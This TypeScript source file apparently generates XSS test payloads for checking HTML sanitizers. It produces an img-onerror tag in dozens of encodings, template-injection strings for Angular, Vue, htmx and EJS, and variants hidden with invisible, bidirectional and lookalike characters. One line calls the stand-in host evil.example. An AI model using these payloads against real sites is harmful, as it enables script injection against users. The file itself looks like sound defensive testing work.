import { CANARY, type Payload, payloadsOf } from "./payload.ts";

/** Returns tags that a filter does not recognize but a layer behind it may decode. */
export function disguisedPayloads(): Payload[] {
  return [
    ...payloadsOf("encodings", encodings()),
    ...payloadsOf("template languages", templates()),
    ...payloadsOf("bidirectional, invisible and broken characters", characters()),
  ];
}

/** `<` and whole tags in every encoding that some layer may decode. */
function encodings(): string[] {
  const tag = `<img src=x onerror=${CANARY}>`;
  const brackets = (open: string, close: string) => tag.replace("<", open).replace(">", close);
  const every = (write: (code: number) => string) =>
    [...tag].map((character) => write(character.codePointAt(0) ?? 0)).join("");
  return [
    brackets("&lt;", "&gt;"),
    brackets("&lt", "&gt"),
    brackets("&LT;", "&GT;"),
    brackets("&#60;", "&#62;"),
    brackets("&#60", "&#62"),
    brackets("&#0000060;", "&#0000062;"),
    brackets("&#x3c;", "&#x3e;"),
    brackets("&#X3C", "&#X3E"),
    brackets("&amp;lt;", "&amp;gt;"),
    brackets("&amp;#60;", "&amp;#62;"),
    brackets("&nvlt;", "&nvgt;"),
    brackets("%3c", "%3e"),
    brackets("%253c", "%253e"),
    brackets("%u003c", "%u003e"),
    brackets("%c0%bc", "%c0%be"),
    brackets("\\u003c", "\\u003e"),
    brackets("\\x3c", "\\x3e"),
    brackets("\\74", "\\76"),
    brackets("\\<", "\\>"),
    brackets("\uff1c", "\uff1e"),
    brackets("\u2039", "\u203a"),
    brackets("\u3008", "\u3009"),
    brackets("\u02c2", "\u02c3"),
    brackets("¼", "¾"),
    brackets("\u{e003c}", "\u{e003e}"),
    brackets("+ADw-", "+AD4-"),
    every((code) => `&#${code};`),
    every((code) => `&#x${code.toString(16)};`),
    every((code) => `%${code.toString(16).padStart(2, "0")}`),
    every((code) => `\\u${code.toString(16).padStart(4, "0")}`),
    every((code) => (code > 32 && code < 127 ? String.fromCodePoint(code + 0xfee0) : String.fromCodePoint(code))),
    Buffer.from(tag).toString("base64"),
    `data:text/html;base64,${Buffer.from(tag).toString("base64")}`,
    `{"body":"${tag}"}`,
    `{"__proto__":{"innerHTML":"${tag}"},"dangerouslySetInnerHTML":{"__html":"${tag}"}}`,
    `[object Object]${tag}`,
  ];
}

function templates(): string[] {
  return [
    `{{constructor.constructor('${CANARY}')()}}`,
    `{{$on.constructor('${CANARY}')()}}`,
    `{{_c.constructor('${CANARY}')()}}`,
    `{{= ${CANARY} }}`,
    `{{{${CANARY}}}}`,
    `\${${CANARY}}`,
    `#{${CANARY}}`,
    `<%= ${CANARY} %>`,
    `<%- "<img src=x onerror=${CANARY}>" %>`,
    `@(${CANARY})`,
    `[[${CANARY}]]`,
    `<div v-html="'<img src=x onerror=${CANARY}>'">`,
    `<div x-data x-init="${CANARY}">`,
    `<div ng-app ng-init="constructor.constructor('${CANARY}')()">`,
    `<div data-bind="html: '<img src=x onerror=${CANARY}>'">`,
    `<div hx-get="//evil.example" hx-trigger=load hx-on::load="${CANARY}">`,
    `$&<img src=x onerror=${CANARY}>$'$\``,
    `%s %d %o %c <img src=x onerror=${CANARY}>`,
  ];
}

function characters(): string[] {
  const tag = `<img src=x onerror=${CANARY}>`;
  const disguises = [
    "\u0000",
    "\u00ad",
    "\u200b",
    "\u200d",
    "\u2060",
    "\ufeff",
    "\u202e",
    "\u2066",
    "\u061c",
    "\u0301",
  ];
  return [
    ...disguises.flatMap((character) => [
      `${character}${tag}`,
      tag.replace("img", `i${character}mg`),
      tag.replace("onerror", `on${character}error`),
    ]),
    `\ud800${tag}`,
    `${tag}\udc00`,
    `<\ud800img src=x onerror=${CANARY}>`,
    `\u202e)1(ssx__=rorreno x=crs gmi<`,
    `\u2067${tag}\u2069`,
    `${"\u0301".repeat(200)}${tag}`,
    `<ſcript>${CANARY}</ſcript>`,
    `<ıframe src=javascript:${CANARY}>`,
    `<\u212amg src=x onerror=${CANARY}>`,
    `\u2028${tag}\u2029`,
    `\u0085${tag}`,
    `\u001b[31m${tag}`,
    `${tag}\u0008\u0008`,
  ];
}
